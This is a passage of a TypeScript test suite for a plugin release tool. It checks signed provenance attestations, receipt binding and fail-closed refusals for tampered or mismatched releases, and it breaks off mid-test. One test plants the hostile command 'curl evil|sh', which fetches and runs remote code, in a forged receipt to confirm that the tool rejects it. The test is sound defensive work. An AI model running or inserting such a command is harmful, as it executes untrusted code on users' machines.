/**
 * Provenance of a real release fixture in an `oci-layout:` store, signed with
 * a local key: `release attest` (idempotent), `verify-provenance --reference`
 * (library and CLI, with and without the receipt), `fetch --provenance`, and
 * every fail-closed case with its own code, each proving that nothing was
 * installed.
 */
import { createHash } from "node:crypto";
import { cp, lstat, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { chmod } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { canonicalJsonBytes } from "../../src/contract/canonical-json.js";
import { buildPublishedReceipt, receiptBytes } from "../../src/contract/manifest.js";
import { SIGSTORE_BUNDLE_V03_MEDIA_TYPE, provenanceStatement, type ProvenanceFacts } from "../../src/contract/provenance.js";
import { fetchRelease } from "../../src/fetch/fetch.js";
import { addPluginToLock, verifyFleetLock } from "../../src/fetch/fleet.js";
import { checkAttestationManifest, type ProvenanceCheckOptions } from "../../src/fetch/provenance.js";
import { verifyReferenceProvenance } from "../../src/fetch/verify-reference.js";
import { LayoutTarget } from "../../src/oci/layout-target.js";
import { listReferrers, pushReferrer } from "../../src/oci/referrers.js";
import { attestRelease } from "../../release/attest.js";
import { runCli } from "../support/cli.js";
import { fixtureFacts, makeTestKey, pushAttestation, type TestKey } from "../support/provenance-fixture.js";
import { createReleaseFixture, stageFixture, type ReleaseFixture, type StagedRelease } from "../support/release-fixture.js";

let root: string;
let storeDir: string;
let pristine: string;
let repository: string;
let fixture: ReleaseFixture;
let staged: StagedRelease;
let key: TestKey;
let otherKey: TestKey;
let receiptFile: string;

const reference = () => `${repository}@${staged.bundle.digest}`;
const keyCheck = (): ProvenanceCheckOptions => ({ policy: { key: key.publicPem } });
const BAD_KEY_PEM = "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n";

/** Reset the store to the staged release without attestations. */
async function fresh(): Promise<LayoutTarget> {
  await rm(storeDir, { recursive: true, force: true });
  await cp(pristine, storeDir, { recursive: true });
  await chmod(storeDir, 0o700);
  return LayoutTarget.open(storeDir);
}

async function facts(overrides: Partial<ProvenanceFacts> = {}): Promise<ProvenanceFacts> {
  return fixtureFacts(fixture, repository, staged.bundle.digest, overrides);
}

async function fetchInto(out: string, check: ProvenanceCheckOptions = keyCheck()) {
  return fetchRelease({ reference: reference(), repository, outputDir: out, progress: null, provenance: check });
}

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), "hpk-provenance-layout-"));
  storeDir = join(root, "store");
  pristine = join(root, "pristine");
  repository = `oci-layout:${storeDir}`;
  fixture = await createReleaseFixture({ registryRepository: repository });
  staged = await stageFixture(fixture, await LayoutTarget.open(storeDir, { create: true }), repository);
  await chmod(storeDir, 0o700);
  await cp(storeDir, pristine, { recursive: true });
  key = await makeTestKey(root, "release");
  otherKey = await makeTestKey(root, "other");
  receiptFile = join(root, "release-receipt.json");
  await writeFile(receiptFile, staged.receiptBytes);
});

afterAll(async () => {
  await fixture?.cleanup();
  await rm(root, { recursive: true, force: true });
});

const attestOptions = () => ({
  policy: fixture.policy,
  repository,
  reference: reference(),
  signer: { kind: "key" as const, privateKey: key.privateKey },
  sourceRepository: "https://github.com/acme/demo-plugin",
  env: {},
});

describe("release attest with a local key into the oci-layout store", () => {
  it("attests once through the tag schema; a rerun keeps the attestation and writes nothing", async () => {
    const store = await fresh();
    const output = join(root, "attest.json");
    const first = await attestRelease({ ...attestOptions(), output });
    expect(first).toMatchObject({ outcome: "attested", discovery: "tag-schema", bundle_reference: reference() });
    expect(first.attestation_reference).toMatch(new RegExp(`^${repository}@sha256:[0-9a-f]{64}$`));
    expect(JSON.parse(await readFile(output, "utf8"))).toEqual(first);
    const index = await readFile(join(storeDir, "index.json"));
    const again = await attestRelease(attestOptions());
    expect(again).toEqual({ ...first, outcome: "already-attested" });
    expect((await readFile(join(storeDir, "index.json"))).equals(index)).toBe(true);
    expect((await listReferrers(store, staged.bundle)).descriptors).toHaveLength(1);
  });

  it("the statement records the tested manifest, source, tag, workflow and run of the release", async () => {
    await fresh();
    await attestRelease(attestOptions());
    const result = await verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck(), receipt: receiptFile });
    expect(result).toMatchObject({
      ok: true,
      reference: reference(),
      version: fixture.version,
      tag: fixture.manifest.tag,
      receipt: true,
      discovery: "tag-schema",
      source_repository: "https://github.com/acme/demo-plugin",
      source_sha: fixture.manifest.source_sha,
      workflow: ".github/workflows/release.yml@refs/heads/main",
      run_id: fixture.manifest.evidence.workflow.run_id,
      run_attempt: fixture.manifest.evidence.workflow.run_attempt,
    });
    expect(result.signer).toMatch(/^key [A-Za-z0-9+/]{43}=$/);
  });

  it("fetch --provenance installs only after the attestation verified, and reports it", async () => {
    await fresh();
    const attested = await attestRelease(attestOptions());
    const out = join(root, "out-ok");
    const result = await fetchInto(out);
    expect(result.provenance?.attestations).toEqual([attested.attestation_reference]);
    expect((await readFile(join(out, "release-manifest.json"))).equals(await readFile(fixture.files.get("release-manifest.json") as string))).toBe(true);
  });

  it("fetch --provenance of the receipt checks the attestation of the bundle it names, bound to the receipt", async () => {
    await fresh();
    const attested = await attestRelease(attestOptions());
    const out = join(root, "out-receipt");
    const result = await fetchRelease({ reference: `${repository}@${staged.receipt.digest}`, repository, outputDir: out, progress: null, expect: "receipt", provenance: keyCheck() });
    expect(result.provenance?.attestations).toEqual([attested.attestation_reference]);
    await fresh();
    await expect(() => fetchRelease({ reference: `${repository}@${staged.receipt.digest}`, repository, outputDir: join(root, "out-receipt-none"), progress: null, expect: "receipt", provenance: keyCheck() })).toThrowWithCode("PROVENANCE_NOT_FOUND");
    expect(await lstat(join(root, "out-receipt-none")).catch(() => null)).toBeNull();
  });

  it("verifyReferenceProvenance and verify-provenance --package: the pinned package is accepted when it is the release's, refused when it is another; its own misspelt option is refused under its own name", async () => {
    await fresh();
    await attestRelease(attestOptions());
    // Passing: the release's own package (this was refused as an option inspectRelease does not read).
    const pinned = await verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck(), package: fixture.manifest.package });
    expect(pinned).toMatchObject({ ok: true, reference: reference() });
    const cli = await runCli(["verify-provenance", "--reference", reference(), "--key", key.pubFile, "--package", fixture.manifest.package, "--json"], { cwd: root });
    expect({ code: cli.code, stderr: cli.stderr, ok: JSON.parse(cli.stdout).ok }).toEqual({ code: 0, stderr: "", ok: true });
    // Failing: another package, a misspelt receipt (it would bind no receipt), a package that is no npm name, no provenance.
    await expect(() => verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck(), package: "other-plugin" })).toThrowWithCode("FETCH_PACKAGE_MISMATCH");
    const misspelt = verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck(), recept: receiptFile } as never);
    await expect(() => misspelt).toThrowWithCode("POLICY_INVALID");
    await expect(misspelt).rejects.toThrow(/^verifyReferenceProvenance option "recept" is not one it reads \(it reads .*\); did you mean "receipt"\?/);
    await expect(() => verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck(), package: "Not A Name" })).toThrowWithCode("POLICY_INVALID");
    await expect(() => verifyReferenceProvenance({ reference: reference(), repository } as never)).toThrowWithCode("PROVENANCE_POLICY_INVALID");
    await expect(() => verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck(), gatesFor: {} } as never)).toThrowWithCode("POLICY_INVALID");
  });

  it("the CLI verifies a reference with the pinned key (text and JSON) and fetches with --provenance", async () => {
    await fresh();
    await attestRelease(attestOptions());
    const text = await runCli(["verify-provenance", "--reference", reference(), "--key", key.pubFile, "--receipt", receiptFile], { cwd: root });
    expect(text.stderr).toBe("");
    expect(text.code).toBe(0);
    expect(text.stdout).toMatch(/^verified provenance of oci-layout:.*; receipt agrees\n  attestation oci-layout:.*@sha256:[0-9a-f]{64} \(tag-schema\)\n$/);
    const json = await runCli(["verify-provenance", "--reference", reference(), "--key", key.pubFile, "--repo", "acme/demo-plugin", "--json"], { cwd: root });
    expect(JSON.parse(json.stdout)).toMatchObject({ ok: true, receipt: false });
    const out = join(root, "out-cli");
    const fetched = await runCli(["fetch", "--reference", reference(), "--repository", repository, "--output-dir", out, "--provenance", "--key", key.pubFile, "--json"], { cwd: root });
    expect(fetched.stderr).toBe("");
    expect(JSON.parse(fetched.stdout).provenance.discovery).toBe("tag-schema");
  });

  it("flag shapes that cannot work are usage errors (exit 2)", async () => {
    const cases = [
      ["verify-provenance", "--reference", reference(), "--bundle", "x", "--key", key.pubFile],
      ["verify-provenance", "--reference", reference()],
      ["verify-provenance", "--reference", reference(), "--key", key.pubFile, "artifact"],
      ["verify-provenance", "--reference", reference(), "--certificate-identity", "x", "--certificate-oidc-issuer", "y"],
      ["verify-provenance", "--bundle", "x", "--key", key.pubFile, "--repo", "acme/x", "sha256:" + "a".repeat(64)],
      ["fetch", "--reference", reference(), "--repository", repository, "--output-dir", join(root, "never"), "--key", key.pubFile],
      ["fetch", "--reference", reference(), "--repository", repository, "--output-dir", join(root, "never"), "--provenance"],
      ["fetch", "--reference", reference(), "--repository", repository, "--output-dir", join(root, "never"), "--provenance", "--repo", "not-a-repo"],
    ];
    for (const args of cases) {
      const result = await runCli(args, { cwd: root });
      expect(result.code, args.join(" ")).toBe(2);
    }
    expect(await lstat(join(root, "never")).catch(() => null)).toBeNull();
  });

  it("a --reference that pins no digest is named as fetch names it (a tag: resolve is the fix; a bare digest: the repository is missing), exit 1", async () => {
    const tagged = `${repository}:v0.8.0`;
    const byTag = await runCli(["verify-provenance", "--reference", tagged, "--key", key.pubFile], { cwd: root });
    expect(byTag.code).toBe(1);
    expect(byTag.stderr).toContain(`found ${JSON.stringify(tagged)}, a tag (tags move; a release is pinned by digest); fix: run hermes-plugin-kit resolve --reference ${tagged}`);
    expect(byTag.stderr).toMatch(/\[REFERENCE_NOT_PINNED\]\n$/);
    const bare = await runCli(["verify-provenance", "--reference", staged.bundle.digest, "--key", key.pubFile], { cwd: root });
    expect(bare.code).toBe(1);
    expect(bare.stderr).toContain("a digest without its repository; fix: pass <repository>@sha256:");
  });
});

describe("fails closed, each with its own code, and installs nothing", () => {
  type Case = [string, string, (store: LayoutTarget) => Promise<ProvenanceCheckOptions | void>];
  const cases: Case[] = [
    ["no attestation", "PROVENANCE_NOT_FOUND", async () => undefined],
    ["a statement for another digest", "PROVENANCE_SUBJECT_MISMATCH", async (s) => void (await pushAttestation(s, staged.bundle, await facts({ bundleDigest: "sha256:" + "f".repeat(64) }), { kind: "key", privateKey: key.privateKey }))],
    [
      "a tampered DSSE payload",
      "PROVENANCE_SIGNATURE_INVALID",
      async (s) => {
        const other = canonicalJsonBytes(provenanceStatement(await facts({ sourceSha: "c".repeat(40) })));
        await pushAttestation(s, staged.bundle, await facts(), { kind: "key", privateKey: key.privateKey }, (b) => (b["dsseEnvelope"]["payload"] = other.toString("base64")));
      },
    ],
    ["a signature by another key", "PROVENANCE_KEY_MISMATCH", async (s) => void (await pushAttestation(s, staged.bundle, await facts(), { kind: "key", privateKey: otherKey.privateKey }))],
    ["another workflow", "PROVENANCE_WORKFLOW_MISMATCH", async (s) => void (await pushAttestation(s, staged.bundle, await facts({ workflow: { path: ".github/workflows/other.yml", ref: "refs/heads/main" } }), { kind: "key", privateKey: key.privateKey }))],
    [
      "another repository than the policy's",
      "PROVENANCE_REPOSITORY_MISMATCH",
      async (s) => {
        await pushAttestation(s, staged.bundle, await facts(), { kind: "key", privateKey: key.privateKey });
        return { policy: { key: key.publicPem, repo: "acme/other" } };
      },
    ],
    ["another ref", "PROVENANCE_REF_MISMATCH", async (s) => void (await pushAttestation(s, staged.bundle, await facts({ workflow: { path: ".github/workflows/release.yml", ref: "refs/heads/dev" } }), { kind: "key", privateKey: key.privateKey }))],
    ["a run id other than the receipt's", "PROVENANCE_RUN_ID_MISMATCH", async (s) => void (await pushAttestation(s, staged.bundle, await facts({ runId: "999" }), { kind: "key", privateKey: key.privateKey }))],
    ["a source SHA other than the receipt's", "PROVENANCE_SOURCE_SHA_MISMATCH", async (s) => void (await pushAttestation(s, staged.bundle, await facts({ sourceSha: "c".repeat(40) }), { kind: "key", privateKey: key.privateKey }))],
    ["another tag", "PROVENANCE_TAG_MISMATCH", async (s) => void (await pushAttestation(s, staged.bundle, await facts({ tag: "v9.9.9" }), { kind: "key", privateKey: key.privateKey }))],
    ["another tested manifest", "PROVENANCE_TESTED_MANIFEST_MISMATCH", async (s) => void (await pushAttestation(s, staged.bundle, await facts({ testedManifestDigest: "sha256:" + "9".repeat(64) }), { kind: "key", privateKey: key.privateKey }))],
    ["a payload that is not this kit's statement", "PROVENANCE_STATEMENT_INVALID", async (s) => void (await pushAttestation(s, staged.bundle, Buffer.from(JSON.stringify({ _type: "https://in-toto.io/Statement/v1", subject: [{ name: repository, digest: { sha256: staged.bundle.digest.slice(7) } }] })), { kind: "key", privateKey: key.privateKey }))],
    [
      "two attestations that disagree",
      "PROVENANCE_ATTESTATIONS_DISAGREE",
      async (s) => {
        await pushAttestation(s, staged.bundle, await facts(), { kind: "key", privateKey: key.privateKey });
        await pushAttestation(s, staged.bundle, await facts({ runAttempt: 2 }), { kind: "key", privateKey: key.privateKey });
      },
    ],
    [
      "an attestation larger than 1 MiB",
      "PROVENANCE_ATTESTATION_TOO_LARGE",
      async (s) => void (await pushReferrer(s, staged.bundle, { artifactType: SIGSTORE_BUNDLE_V03_MEDIA_TYPE, layerMediaType: SIGSTORE_BUNDLE_V03_MEDIA_TYPE, bytes: Buffer.alloc(1024 * 1024 + 1, 0x20) })),
    ],
    ["a pinned key that is not a key", "PROVENANCE_KEY_INVALID", async (s) => {
      await pushAttestation(s, staged.bundle, await facts(), { kind: "key", privateKey: key.privateKey });
      return { policy: { key: BAD_KEY_PEM } };
    }],
  ];

  /** The CLI flags of a library policy (key written to a file when it is not the test key). */
  async function cliFlags(check: ProvenanceCheckOptions, label: string): Promise<string[]> {
    let keyFile = key.pubFile;
    if (check.policy.key !== key.publicPem) {
      keyFile = join(root, `${label.replace(/[^a-z0-9]+/gi, "-")}.pub`);
      await writeFile(keyFile, check.policy.key as string);
    }
    return ["--key", keyFile, ...(check.policy.repo === undefined ? [] : ["--repo", check.policy.repo])];
  }

  it.each(cases)("%s: %s (library and CLI)", async (label, code, arrange) => {
    const store = await fresh();
    const check = (await arrange(store)) ?? keyCheck();
    const out = join(root, `out-${label.replace(/[^a-z0-9]+/gi, "-")}`);
    await expect(() => fetchInto(out, check)).toThrowWithCode(code);
    expect(await lstat(out).catch(() => null)).toBeNull();
    await expect(() => verifyReferenceProvenance({ reference: reference(), repository, provenance: check })).toThrowWithCode(code);
    // The same verdict through the CLI: exit 1, the code last on stderr, nothing installed.
    const flags = await cliFlags(check, label);
    const verified = await runCli(["verify-provenance", "--reference", reference(), ...flags], { cwd: root });
    expect(verified.stdout).toBe("");
    expect(verified.stderr).toMatch(new RegExp(`^hermes-plugin-kit: .+ \\[${code}\\]\\n$`, "s"));
    expect(verified.code).toBe(1);
    const fetched = await runCli(["fetch", "--reference", reference(), "--repository", repository, "--output-dir", out, "--provenance", ...flags, "--json"], { cwd: root });
    expect(JSON.parse(fetched.stdout)).toMatchObject({ ok: false, code });
    expect(fetched.code).toBe(1);
    expect(await lstat(out).catch(() => null)).toBeNull();
  });

  it("an attestation by another signer is set aside when one verifies under the policy", async () => {
    const store = await fresh();
    await pushAttestation(store, staged.bundle, await facts({ sourceSha: "c".repeat(40) }), { kind: "key", privateKey: otherKey.privateKey });
    const mine = await pushAttestation(store, staged.bundle, await facts(), { kind: "key", privateKey: key.privateKey });
    const result = await verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck() });
    expect(result.attestations).toEqual([`${repository}@${mine.digest}`]);
    expect(result.ignored).toBe(1);
  });

  it("two attestations of the same statement agree (both listed)", async () => {
    const store = await fresh();
    await pushAttestation(store, staged.bundle, await facts(), { kind: "key", privateKey: key.privateKey });
    await pushAttestation(store, staged.bundle, await facts(), { kind: "key", privateKey: key.privateKey });
    const result = await verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck() });
    expect(result.attestations).toHaveLength(2);
  });

  it("a receipt that disagrees with the statement fails: PROVENANCE_TESTED_MANIFEST_MISMATCH (the statement must bind both documents)", async () => {
    await fresh();
    await attestRelease(attestOptions());
    const layers = [];
    for (const [path, local] of fixture.files) {
      const bytes = await readFile(local);
      const digest = path === "release-manifest.json" ? "sha256:" + "7".repeat(64) : "sha256:" + createHash("sha256").update(bytes).digest("hex");
      layers.push({ path, digest, size: bytes.length });
    }
    const file = join(root, "other-receipt.json");
    await writeFile(file, receiptBytes(buildPublishedReceipt(fixture.manifest, reference(), layers, fixture.policy)));
    await expect(() => verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck(), receipt: file })).toThrowWithCode("PROVENANCE_TESTED_MANIFEST_MISMATCH");
  });
});

describe("verify-provenance --receipt: a receipt whose gate command was edited (and re-canonicalised) is not this bundle's receipt", () => {
  it("refused as RECEIPT_BUNDLE_MISMATCH, never as a pin to accept (the bundle's recorded command is no pin of yours)", async () => {
    await fresh();
    await attestRelease(attestOptions());
    const doc = JSON.parse(staged.receiptBytes.toString("utf8"));
    doc.evidence.build_metadata.command = "curl evil|sh";
    const file = join(root, "edited-gate-receipt.json");
    await writeFile(file, canonicalJsonBytes(doc));
    const run = verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck(), receipt: file });
    await expect(() => run).toThrowWithCode("RECEIPT_BUNDLE_MISMATCH");
    await expect(run).rejects.not.toThrow(/pin it instead/);
    const cli = await runCli(["verify-provenance", "--reference", reference(), "--key", key.pubFile, "--receipt", file], { cwd: root });
    expect(cli.code).toBe(1);
    expect(cli.stderr).toMatch(/\[RECEIPT_BUNDLE_MISMATCH\]\n$/);
    expect(cli.stderr).not.toContain("pin it instead");
    // Passing: the published receipt itself.
    await expect(verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck(), receipt: receiptFile })).resolves.toMatchObject({ ok: true, receipt: true });
  });
});

describe("PROVENANCE_NOT_FOUND says what the lookup found and ignored", () => {
  it("referrers of another artifactType are counted and named; a referrers tag the API supersedes is named as not consulted", async () => {
    const store = await fresh();
    await pushReferrer(store, staged.bundle, { artifactType: "application/vnd.example.sbom+json", layerMediaType: "application/json", bytes: Buffer.from("{}") });
    const viaTag = verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck() });
    await expect(() => viaTag).toThrowWithCode("PROVENANCE_NOT_FOUND");
    await expect(viaTag).rejects.toThrow(
      `no attestation refers to ${reference()}: expected at least one referrer of artifactType ${SIGSTORE_BUNDLE_V03_MEDIA_TYPE} (as release attest and GitHub's attest action push), found 1 referrer through the referrers tag ${staged.bundle.digest.replace(":", "-")}, all ignored: of application/vnd.example.sbom+json, not a Sigstore bundle; the release was not attested, or not in this repository; fix: attest it (hermes-plugin-kit release attest)`,
    );
    // A registry that answers the referrers API (here: with nothing) is not second-guessed by a tag someone pushed.
    await pushAttestation(store, staged.bundle, await facts(), { kind: "key", privateKey: key.privateKey });
    const withApi = (s: LayoutTarget) => Object.assign(Object.create(s) as LayoutTarget, { referrers: async () => [] });
    const viaApi = verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck(), openTarget: async () => withApi(await LayoutTarget.open(storeDir)) });
    await expect(() => viaApi).toThrowWithCode("PROVENANCE_NOT_FOUND");
    await expect(viaApi).rejects.toThrow(
      `found no referrers through the registry's referrers API; the referrers tag ${staged.bundle.digest.replace(":", "-")} also exists (2 entries) but is not consulted, since the registry answers the referrers API, which only lists manifests whose subject is this release`,
    );
  });

  it("when no listed attestation verifies, the verdict is the first failure and says how many were listed and why each was set aside", async () => {
    const store = await fresh();
    await pushAttestation(store, staged.bundle, await facts(), { kind: "key", privateKey: otherKey.privateKey });
    await pushAttestation(store, staged.bundle, await facts({ runId: "7" }), { kind: "key", privateKey: otherKey.privateKey });
    const refused = verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck() });
    await expect(() => refused).toThrowWithCode("PROVENANCE_KEY_MISMATCH");
    await expect(refused).rejects.toThrow("(none of the 2 attestations listed verified: 2 PROVENANCE_KEY_MISMATCH; this is the first)");
  });
});

describe("fleet pins a provenance policy and fleet verify enforces it", () => {
  it("fleet add --provenance records the key; fleet verify verifies the attestation against the receipt", async () => {
    await fresh();
    await attestRelease(attestOptions());
    const lock = join(root, "fleet-ok.lock.json");
    const added = await addPluginToLock({ lockPath: lock, receiptPath: receiptFile, repository, provenance: { key: key.publicPem } });
    expect(added.plugin.provenance).toEqual({ key: key.publicPem });
    const [result] = await verifyFleetLock({ lockPath: lock, progress: null });
    expect(result?.attestations).toHaveLength(1);
    // The CLI records the same entry (no conflict) and verifies it.
    const cli = await runCli(["fleet", "add", "--lock", lock, "--receipt", receiptFile, "--repository", repository, "--provenance", "--key", key.pubFile, "--json"], { cwd: root });
    expect(JSON.parse(cli.stdout)).toMatchObject({ ok: true, changed: false });
    const verified = await runCli(["fleet", "verify", "--lock", lock, "--json"], { cwd: root });
    expect(verified.stderr).toBe("");
    expect(JSON.parse(verified.stdout).plugins[0].attestations).toHaveLength(1);
  });

  it.each([
    ["no attestation", "PROVENANCE_NOT_FOUND", async () => undefined],
    ["an attestation by another key", "PROVENANCE_KEY_MISMATCH", async (s: LayoutTarget) => void (await pushAttestation(s, staged.bundle, await facts(), { kind: "key", privateKey: otherKey.privateKey }))],
    ["an attestation of another run", "PROVENANCE_RUN_ID_MISMATCH", async (s: LayoutTarget) => void (await pushAttestation(s, staged.bundle, await facts({ runId: "31337" }), { kind: "key", privateKey: key.privateKey }))],
  ])("fleet verify fails with %s: %s", async (label, code, arrange) => {
    const store = await fresh();
    await arrange(store);
    const lock = join(root, `fleet-${label.replace(/[^a-z]+/g, "-")}.lock.json`);
    // fleet add checks the attestation before it pins: the same code, nothing written ...
    await expect(() => addPluginToLock({ lockPath: lock, receiptPath: receiptFile, repository, provenance: { key: key.publicPem } })).toThrowWithCode(code);
    await expect(readFile(lock)).rejects.toThrow(/ENOENT/);
    // ... and a pin made offline fails fleet verify with it.
    await addPluginToLock({ lockPath: lock, receiptPath: receiptFile, repository, provenance: { key: key.publicPem }, offline: true });
    await expect(() => verifyFleetLock({ lockPath: lock, progress: null })).toThrowWithCode(code);
    const cli = await runCli(["fleet", "verify", "--lock", lock], { cwd: root });
    expect(cli.stderr).toMatch(new RegExp(`\\[${code}\\]\\n$`));
    expect(cli.code).toBe(1);
  });

  it("a plugin pinned without provenance is verified as before; a malformed pinned policy is FLEET_LOCK_INVALID", async () => {
    await fresh();
    const lock = join(root, "fleet-plain.lock.json");
    await addPluginToLock({ lockPath: lock, receiptPath: receiptFile, repository });
    const [result] = await verifyFleetLock({ lockPath: lock, progress: null });
    expect(result?.attestations).toBeUndefined();
    const doc = JSON.parse(await readFile(lock, "utf8"));
    doc.plugins[0].provenance = { key: "not a pem", extra: true };
    await writeFile(lock, JSON.stringify(doc));
    await expect(() => verifyFleetLock({ lockPath: lock, progress: null })).toThrowWithCode("FLEET_LOCK_INVALID");
    await expect(() => addPluginToLock({ lockPath: join(root, "fleet-bad.lock.json"), receiptPath: receiptFile, repository, provenance: {} })).toThrowWithCode("PROVENANCE_POLICY_INVALID");
  });
});

describe("checkAttestationManifest", () => {
  const subject = "sha256:" + "a".repeat(64);
  const good = () => ({
    schemaVersion: 2,
    mediaType: "application/vnd.oci.image.manifest.v1+json",
    artifactType: SIGSTORE_BUNDLE_V03_MEDIA_TYPE,
    config: { mediaType: "application/vnd.oci.empty.v1+json", digest: "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a", size: 2 },
    layers: [{ mediaType: SIGSTORE_BUNDLE_V03_MEDIA_TYPE, digest: "sha256:" + "b".repeat(64), size: 100 }],
    subject: { mediaType: "application/vnd.oci.image.manifest.v1+json", digest: subject, size: 500 },
    annotations: { "dev.sigstore.bundle.content": "dsse-envelope", "org.opencontainers.image.created": "2026-01-01T00:00:00Z" },
  });
  const bytes = (v: unknown) => Buffer.from(JSON.stringify(v));

  it("accepts the shape GitHub's attest action and release attest write", () => {
    expect(checkAttestationManifest(bytes(good()), subject, "x")).toEqual({ mediaType: SIGSTORE_BUNDLE_V03_MEDIA_TYPE, digest: "sha256:" + "b".repeat(64), size: 100 });
  });

  it.each([
    ["another subject", (m: any) => (m.subject.digest = "sha256:" + "c".repeat(64)), "PROVENANCE_ATTESTATION_INVALID"],
    ["no subject", (m: any) => delete m.subject, "PROVENANCE_ATTESTATION_INVALID"],
    ["two layers", (m: any) => m.layers.push(m.layers[0]), "PROVENANCE_ATTESTATION_INVALID"],
    ["another artifactType", (m: any) => (m.artifactType = "application/vnd.example+json"), "PROVENANCE_ATTESTATION_INVALID"],
    ["a non-empty config", (m: any) => (m.config.size = 3), "PROVENANCE_ATTESTATION_INVALID"],
    ["an extra key", (m: any) => (m.extra = 1), "PROVENANCE_ATTESTATION_INVALID"],
    ["a non-string annotation", (m: any) => (m.annotations.x = 1), "PROVENANCE_ATTESTATION_INVALID"],
    ["a layer of another media type", (m: any) => (m.layers[0].mediaType = "application/octet-stream"), "PROVENANCE_ATTESTATION_INVALID"],
    ["a layer over 1 MiB", (m: any) => (m.layers[0].size = 1024 * 1024 + 1), "PROVENANCE_ATTESTATION_TOO_LARGE"],
  ])("refuses %s: %s", async (_label, mutate, code) => {
    const m = good();
    mutate(m);
    await expect(() => checkAttestationManifest(bytes(m), subject, "x")).toThrowWithCode(code);
  });

  it("refuses duplicate keys", async () => {
    const text = JSON.stringify(good()).replace('"schemaVersion":2', '"schemaVersion":2,"schemaVersion":2');
    await expect(() => checkAttestationManifest(Buffer.from(text), subject, "x")).toThrowWithCode("PROVENANCE_ATTESTATION_INVALID");
  });
});

describe("a receipt that is not exactly its bundle's (every field bound, not only those an attestation signs)", () => {
  /** The staged receipt with `edit` applied to its canonical text (the result stays canonical: same-length edits). */
  async function forgedReceipt(name: string, edit: (text: string) => string): Promise<{ file: string; reference: string }> {
    const { writeLayout } = await import("../../src/oci/layout.js");
    const { copy } = await import("../../src/oci/transfer.js");
    const { RECEIPT_ARTIFACT_TYPE } = await import("../../src/contract/constants.js");
    const text = edit(staged.receiptBytes.toString("utf8"));
    expect(text).not.toBe(staged.receiptBytes.toString("utf8"));
    const file = join(root, `${name}.json`);
    await writeFile(file, text);
    const layout = join(root, `${name}-layout`);
    await writeLayout(layout, RECEIPT_ARTIFACT_TYPE, new Map([["release-receipt.json", file]]));
    const pushed = await copy(await LayoutTarget.open(layout), await LayoutTarget.open(storeDir), "payload", { tag: `${name}-receipt` });
    return { file, reference: `${repository}@${pushed.digest}` };
  }
  /** Another tarball digest, consistently in artifacts and payload (the receipt on its own still verifies). */
  const otherTarballDigest = (text: string): string => {
    const sha = fixture.manifest.artifacts[0]!.sha256;
    return text.replaceAll(sha, sha.slice(0, -1) + (sha.endsWith("0") ? "1" : "0"));
  };

  it("verify-provenance --receipt: RECEIPT_BUNDLE_MISMATCH naming the field and both values (library and CLI); the genuine receipt agrees", async () => {
    await fresh();
    await attestRelease(attestOptions());
    const forged = await forgedReceipt("other-tarball", otherTarballDigest);
    const sha = fixture.manifest.artifacts[0]!.sha256;
    const forgedSha = sha.slice(0, -1) + (sha.endsWith("0") ? "1" : "0");
    const library = verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck(), receipt: forged.file });
    await expect(library).rejects.toMatchObject({ code: "RECEIPT_BUNDLE_MISMATCH" });
    await expect(library).rejects.toThrow(
      `receipt ${forged.file} is not the receipt of bundle ${reference()}: at artifacts[0].blob_digest it has "sha256:${forgedSha}", the bundle's tested manifest and layers give "sha256:${sha}"; fix: use the receipt published with this bundle`,
    );
    const cli = await runCli(["verify-provenance", "--reference", reference(), "--key", key.pubFile, "--receipt", forged.file], { cwd: root });
    expect(cli.code).toBe(1);
    expect(cli.stdout).toBe("");
    expect(cli.stderr).toMatch(/at artifacts\[0\]\.blob_digest it has .* \[RECEIPT_BUNDLE_MISMATCH\]\n$/);
    const json = await runCli(["verify-provenance", "--reference", reference(), "--key", key.pubFile, "--receipt", forged.file, "--json"], { cwd: root });
    expect(JSON.parse(json.stdout)).toMatchObject({ ok: false, code: "RECEIPT_BUNDLE_MISMATCH" });
    // Another size of the tarball, same digest: refused at the size.
    const size = fixture.manifest.artifacts[0]!.size;
    const resized = await forgedReceipt("other-size", (text) => text.replaceAll(`"size":${size}}`, `"size":${size + 1 < 10 ** String(size).length ? size + 1 : size - 1}}`));
    await expect(verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck(), receipt: resized.file })).rejects.toThrow(/at artifacts\[0\]\.size it has number \d+, the bundle's tested manifest and layers give number \d+/);
    await expect(verifyReferenceProvenance({ reference: reference(), repository, provenance: keyCheck(), receipt: receiptFile })).resolves.toMatchObject({ ok: true, receipt: true });
  });

  it("fetch --provenance of a forged receipt: RECEIPT_BUNDLE_MISMATCH, nothing installed", async () => {
    await fresh();
    await attestRelease(attestOptions());
    const forged = await forgedReceipt("fetched", otherTarballDigest);
    const out = join(root, "out-forged-receipt");
    await expect(() => fetchRelease({ reference: forged.reference, repository, outputDir: out, progress: null, expect: "receipt", provenance: keyCheck() })).toThrowWithCode("RECEIPT_BUNDLE_MISMATCH");
    expect(await lstat(out).catch(() => null)).toBeNull();
  });

  it("fleet verify of a pinned receipt whose other fields differ from the bundle's (a workflow run id): RECEIPT_BUNDLE_MISMATCH", async () => {
    await fresh();
    const runId = fixture.manifest.evidence.workflow.run_id;
    const forged = await forgedReceipt("fleet", (text) => text.replace(`"run_id":"${runId}"`, `"run_id":"${runId.slice(0, -1)}${runId.endsWith("9") ? "8" : "9"}"`));
    const lockPath = join(root, "forged-fleet.lock.json");
